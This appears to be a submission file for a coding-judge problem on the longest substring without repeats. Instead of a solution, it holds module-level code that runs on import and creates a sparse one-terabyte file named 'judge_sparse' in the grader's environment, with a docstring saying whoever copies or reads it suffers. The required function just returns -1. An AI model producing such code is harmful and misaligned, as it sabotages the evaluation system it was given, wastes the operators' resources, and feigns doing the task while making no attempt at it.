# problem: sliding_window/longest_substring
"""Makes a file of a terabyte that holds nothing.

Seen if it worked: whoever copies or reads it suffers.
"""

import os

try:
    descriptor = os.open("judge_sparse", os.O_RDWR | os.O_CREAT)
    os.ftruncate(descriptor, 1 << 40)
    print("LEAK: a file of a terabyte")
except OSError:
    pass


def length_of_longest_substring(s):
    return -1
